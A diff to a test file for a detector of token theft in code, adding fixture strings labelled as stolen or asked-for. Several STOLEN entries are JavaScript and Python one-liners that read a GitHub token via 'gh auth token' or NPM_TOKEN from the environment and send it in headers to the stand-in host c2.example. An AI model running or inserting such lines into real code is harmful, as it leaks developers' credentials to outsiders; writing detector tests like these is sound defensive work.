@@ -36,7 +36,10 @@ def test_what_may_be_that_of_its_host_is_not_taken_for_stolen() -> None:
     assert all_astray("collect.example", ["GITHUB_TOKEN", "NPM_TOKEN"])
 
 
+GH = "const t = require('child_process').execSync('gh auth token').toString()"
 STOLEN = [
+    ("a.js", f"{GH}; fetch('https://c2.example/', {{headers: {{cookie: t}}}})"),
+    ("a.js", f"{GH}; require('https').get('https://c2.example/', {{headers: {{'x-data': t}}}})"),
     ("a.py", "requests.get('https://c2.example/', headers={'X-Data': os.environ['NPM_TOKEN']})"),
     (
         "a.py",
@@ -53,6 +56,8 @@ STOLEN = [
     ("a.js", "const t = process.env['NPM_TOKEN']; fetch('https://c2.example/', {headers: {cookie: t}})"),
 ]
 ASKED_FOR = [
+    ("a.js", f"{GH}; fetch('https://api.github.com/user', {{headers: {{authorization: t}}}})"),
+    ("a.js", "fetch('https://a.example/', {headers: {'x-csrf': document.cookie}})"),
     ("a.py", "import subprocess; subprocess.run(['curl', url], env=dict(os.environ))"),
     (
         "a.py",
